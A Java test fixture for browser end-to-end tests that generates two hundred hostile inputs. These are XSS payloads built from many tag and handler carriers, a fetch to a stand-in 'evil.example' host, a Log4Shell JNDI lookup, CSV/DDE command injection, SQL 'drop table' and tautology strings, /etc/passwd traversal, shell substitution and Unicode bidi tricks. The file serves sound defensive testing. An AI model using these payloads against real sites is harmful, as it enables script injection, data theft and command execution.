package dev.tributary.e2e.browser;

import java.util.List;
import java.util.stream.Stream;

/** Texts that try to be more than text. A page that lets one be so is marked, or opens a dialog. */
final class Payloads {
  /** What is set on a page in which one of them ran. */
  static final String MARK = "window.hacked";

  private static final List<String> DEEDS =
      List.of(
          "window.hacked=1",
          "alert(1)",
          "(0,eval)('window.hacked=1')",
          "fetch('http://evil.example/')",
          "top.window.hacked=1");

  /** DEED is done wherever the text is taken for markup, script or a template. */
  private static final List<String> CARRIERS =
      List.of(
          "<script>DEED</script>",
          "\"><script>DEED</script>",
          "'><img src=x onerror=DEED>",
          "<img src=x onerror=DEED>",
          "<svg onload=DEED>",
          "<svg><script>DEED</script></svg>",
          "<svg><animate onbegin=DEED attributeName=x dur=1s>",
          "<svg><a xlink:href=\"javascript:DEED\"><text y=20>x</text></a></svg>",
          "<math><mtext></mtext><img src=x onerror=DEED></math>",
          "<iframe srcdoc=\"<script>parent.DEED</script>\"></iframe>",
          "<iframe src=\"javascript:DEED\"></iframe>",
          "<object data=\"javascript:DEED\"></object>",
          "<embed src=\"javascript:DEED\">",
          "<a href=\"javascript:DEED\">click</a>",
          "<details open ontoggle=DEED>",
          "<input autofocus onfocus=DEED>",
          "<video><source onerror=DEED></video>",
          "<template><img src=x onerror=DEED></template>",
          "<meta http-equiv=refresh content=\"0;url=javascript:DEED\">",
          "<form action=\"javascript:DEED\"><button>x</button></form>",
          "</title><script>DEED</script>",
          "</textarea></select><svg/onload=DEED>",
          "<!--<img src=\"--><img src=x onerror=DEED>\">",
          "&lt;script&gt;DEED&lt;/script&gt;",
          "\\u003cscript\\u003eDEED\\u003c/script\\u003e",
          "';DEED;//",
          "javascript:DEED",
          "data:text/html,<script>DEED</script>",
          "{{constructor.constructor('DEED')()}}",
          "${DEED}",
          "#{DEED}",
          "<%= DEED %>");

  /** Without a deed: they disturb the page around them, a spreadsheet, a shell or a database. */
  private static final List<String> OTHERS =
      List.of(
          "=HYPERLINK(\"http://evil.example\",\"x\")",
          "=1+1",
          "+1+1",
          "-2+3",
          "@SUM(A1)",
          "=cmd|' /C calc'!A0",
          "\u202Egnp.exe",
          "\u2066isolated\u2069",
          "\u200Fright\u200Eleft",
          "متجر الشمال",
          "חנות הצפון",
          "zero\u200Bwidth\u200Djoined",
          "\uFEFFmark",
          "Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307a\u0308\u030A\u030B\u030Clgo",
          "👩‍👩‍👧‍👦 family",
          "＜script＞alert(1)＜/script＞",
          "'; drop table tributary.person; --",
          "' or '1'='1",
          "../../../../etc/passwd",
          "`id`",
          "$(id)",
          "%s%n%x",
          "{0} {1}",
          "__proto__",
          "constructor",
          "toString",
          "null",
          "undefined",
          "NaN",
          "<b>bold</b> & <i>slanted</i>",
          "&amp;&#60;&#x3C;",
          "a".repeat(400),
          "very long words ".repeat(25).strip(),
          "<".repeat(300),
          "<style>*{display:none}</style>",
          "<link rel=stylesheet href=http://evil.example/x.css>",
          "<base href=http://evil.example/>",
          "<img src=http://evil.example/pixel.gif>",
          "${jndi:ldap://evil.example/a}",
          "[click](javascript:alert(1))");

  private Payloads() {}

  /** Two hundred. */
  static List<String> all() {
    return Stream.concat(
            CARRIERS.stream()
                .flatMap(carrier -> DEEDS.stream().map(deed -> carrier.replace("DEED", deed))),
            OTHERS.stream())
        .toList();
  }
}
